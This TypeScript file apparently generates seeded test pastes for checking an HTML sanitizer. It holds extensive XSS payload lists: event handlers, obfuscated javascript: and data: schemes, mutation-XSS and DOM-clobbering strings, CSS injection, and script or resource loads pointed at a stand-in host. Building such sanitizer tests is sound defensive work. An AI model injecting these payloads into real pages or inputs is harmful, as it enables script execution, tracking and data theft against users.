/**
 * HTML that wants to run, to fetch or to restyle, made from a grammar: what is done, how it is written, and where it stands. The same
 * seed gives the same payloads. Words before and after must survive; `ran` is called by whatever runs, and every address is on `host`.
 */

/** Where every payload tries to reach. */
export const host = 'https://outside.invalid'

/** One payload, and the words that a reader must still have after it. */
export interface HostilePaste {
  readonly html: string
  readonly kept: readonly string[]
}

const run = 'top.ran=1'
const handlers =
  'onload onerror onfocus onblur onmouseover onclick onpointerenter onanimationstart ontransitionend ontoggle onbeforetoggle onscroll oncontentvisibilityautostatechange onbegin onend onrepeat onpageshow onhashchange onbeforeinput oninput onpaste onwheel onauxclick oncopy'.split(
    ' ',
  )
const carriers =
  'img svg body iframe video audio input details marquee style link object embed a p div span b table select textarea button keygen math image frameset isindex bgsound dialog'.split(
    ' ',
  )
const schemes = [
  `javascript:${run}`,
  `java\tscript:${run}`,
  `JaVaScRiPt:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61vascript:${run}`,
  `\u0001javascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `view-source:javascript:${run}`,
]
const reaching = [
  `<img src=${host}/a.png>`,
  `<img srcset="${host}/b.png 2x" src=x:>`,
  `<picture><source srcset=${host}/c.webp><img></picture>`,
  `<input type=image src=${host}/d.png>`,
  `<video poster=${host}/e.png src=${host}/e.mp4 autoplay></video>`,
  `<audio src=${host}/f.mp3 autoplay></audio>`,
  `<track src=${host}/g.vtt>`,
  `<link rel=stylesheet href=${host}/h.css>`,
  `<link rel=prefetch href=${host}/i>`,
  `<link rel=preconnect href=${host}>`,
  `<link rel="modulepreload" href="${host}/j.js">`,
  `<base href=${host}/><img src=k.png>`,
  `<meta http-equiv=refresh content="0;url=${host}/l">`,
  `<iframe src=${host}/m></iframe>`,
  `<object data=${host}/n></object>`,
  `<embed src=${host}/o>`,
  `<body background=${host}/p.png>`,
  `<table background=${host}/q.png><tr><td background=${host}/r.png>x</table>`,
  `<svg><image href=${host}/s.png /><use href="${host}/t.svg#a"/><feImage href=${host}/u.png /></svg>`,
  `<a href=${host}/v ping=${host}/w>x</a>`,
  `<form action=${host}/x><button formaction=${host}/y>x</button></form>`,
  `<script src=${host}/z.js></script>`,
  `<style>@import url(${host}/1.css);*{background:url(${host}/2.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${host}/3.ttf)}*{font-family:x}</style>`,
  `<frameset><frame src=${host}/4></frameset>`,
  `<portal src=${host}/5></portal>`,
  `<img lowsrc=${host}/6.png dynsrc=${host}/7.png longdesc=${host}/8>`,
  `<v:imagedata src="${host}/9.png" o:href="${host}/10"/>`,
  `<math><mtext href=${host}/11 xlink:href=${host}/12>x</mtext></math>`,
]
const styles = [
  `background:url(${host}/s1.png)`,
  `background-image:u\\72l(${host}/s2.png)`,
  `list-style:url('${host}/s3.png')`,
  `cursor:url(${host}/s4.cur),auto`,
  `content:url(${host}/s5.png)`,
  `border-image-source:url(${host}/s6.png)`,
  `mask:url(${host}/s7.svg#m)`,
  `filter:url(${host}/s8.svg#f)`,
  `width:expression(${run})`,
  `behavior:url(${host}/s9.htc)`,
  `-moz-binding:url(${host}/s10.xml#x)`,
  `position:fixed;inset:0;z-index:99999;background:#fff`,
  `color:red;--x:url(${host}/s11.png);background:var(--x)`,
  `background:image-set(url(${host}/s12.png) 1x)`,
  `@import '${host}/s13.css'`,
]
/** What changes its meaning between being cleaned and being read again. */
const mutating = [
  `<noscript><p title="</noscript><img src=x: onerror=${run}>"></noscript>`,
  `<svg></p><style><a id="</style><img src=x: onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${run}>`,
  `<svg><style><img src=x: onerror=${run}></style></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x: onerror=${run}></style></annotation-xml></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`,
  `<template><img src=x: onerror=${run}></template>`,
  `<div><template shadowrootmode=open><img src=x: onerror=${run}></template></div>`,
  `<textarea><img title="</textarea><img src=x: onerror=${run}>"></textarea>`,
  `<title><a alt="</title><img src=x: onerror=${run}>">`,
  `<xmp><p title="</xmp><svg/onload=${run}>"></xmp>`,
  `<iframe><!--</iframe><img src=x: onerror=${run}>-->`,
  `<!--><img src=x: onerror=${run}>-->`,
  `<!--[if gte mso 9]><img src=x: onerror=${run}><![endif]-->`,
  `<![CDATA[<img src=x: onerror=${run}>]]>`,
  `<?xml version="1.0"?><?php echo 1 ?><img src=x: onerror=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=onmouseover to=${run}></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<script>${run}</script>`,
  `<script/x>${run}</script >`,
  `<ScRiPt\n>${run}</sCrIpT>`,
  `<script><!--\n${run}//--></script>`,
  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<isindex type=image src=x: onerror=${run}>`,
  `<form id=document><input name=body><input name=attributes><input name=childNodes></form>`,
  `<form><input name=parentNode><input name=nodeName><input name=removeChild></form>`,
  `<a id=attributes name=setAttribute href=x></a><img name=currentScript><img id=createElement name=createElement>`,
  `<p is=x-pasted onfocus=${run} tabindex=0 autofocus contenteditable=true>x</p>`,
  `<input autofocus onfocus=${run}><select autofocus onfocus=${run}></select>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${run}>x</div>`,
  `<a href="javascript:${run}" data-lexical-link=true class=name-chip data-person=kelly>x</a>`,
  `<span data-lexical-decorator=true data-lexical-text=true contenteditable=false onclick=${run}>x</span>`,
]
/** How a payload may be wrapped. `§` is the payload. */
const contexts = [
  '§',
  '<p>§</p>',
  '<div style="color:red">§</div>',
  '<ul><li>§</li></ul>',
  '<table><tr><td>§</td></tr></table>',
  '<table>§</table>',
  '<b><i>§</i></b>',
  '<p class=MsoNormal><span lang=EN-GB>§<o:p></o:p></span></p>',
  '<p class=MsoListParagraph style="mso-list:l0 level1 lfo1"><![if !supportLists]><span style="mso-list:Ignore">·</span><![endif]>§</p>',
  '<!--StartFragment-->§<!--EndFragment-->',
  '<html><head></head><body>§</body></html>',
  '<svg><desc>§</desc></svg>',
  '<math><mi>§</mi></math>',
  '<select><option>§</option></select>',
  '<h1>§</h1>',
  '<blockquote><div><div>§</div></div></blockquote>',
]

/** So many payloads. */
export function hostilePastes(count: number, seed: number): HostilePaste[] {
  const random = mulberry32(seed)
  const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)] as T
  return Array.from({ length: count }, (_, at) => {
    const kept = [`before${at}`, `after${at}`]
    // Every named trick stands alone once; after that they are mixed.
    const alone = [...mutating, ...reaching][at]
    const payload = alone ?? madeUp(pick, random)
    const wrapped = pick(contexts).replace('§', () => payload)
    return { html: `<p>${kept[0]}</p>${wrapped}${closers}<p>${kept[1]}</p>`, kept }
  })
}

/** Whatever a payload left open (a comment, an attribute, raw text) is closed, so that the words after it are words. */
const closers =
  '"\'><!-- --></textarea></title></style></script></xmp></iframe></noembed></p></div></b></noscript></template></select></math></svg></table></form></object>'

function madeUp(pick: <T>(from: readonly T[]) => T, random: () => number): string {
  switch (Math.floor(random() * 6)) {
    case 0:
      return element(pick, [attribute(pick, pick(handlers), run)])
    case 1:
      return element(pick, [
        attribute(pick, pick(['href', 'src', 'action', 'data', 'xlink:href', 'to']), pick(schemes)),
      ])
    case 2:
      return element(pick, [`style="${pick(styles)}"`, attribute(pick, pick(handlers), run)])
    case 3:
      return pick(reaching)
    case 4:
      return pick(mutating)
    default:
      return `${pick(mutating)}${pick(reaching)}<p style="${pick(styles)}">${pick(mutating)}</p>`
  }
}

function element(pick: <T>(from: readonly T[]) => T, attributes: readonly string[]): string {
  const name = pick([(text: string) => text, (text: string) => text.toUpperCase()])(pick(carriers))
  const gap = pick([' ', '\n', '\t', '/', '\f', ' / ', '\u000b '])
  return `<${name}${gap}${attributes.join(pick([' ', '/', '\n']))}${pick(['', ' autofocus tabindex=1', ' src=x:', ' open'])}${pick(['>', '/>', ' >'])}x`
}

function attribute(pick: <T>(from: readonly T[]) => T, name: string, value: string): string {
  const written = pick([name, name.toUpperCase(), `${name[0]}${name.slice(1).toUpperCase()}`])
  const equals = pick(['=', ' = ', '=\n'])
  const quote = /[\s<>'"]/.test(value) ? '"' : pick(['"', "'", '', '`'])
  return `${written}${equals}${quote}${value.replaceAll('"', '&quot;')}${quote}`
}

/** A small seeded generator (mulberry32, public domain). */
function mulberry32(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}
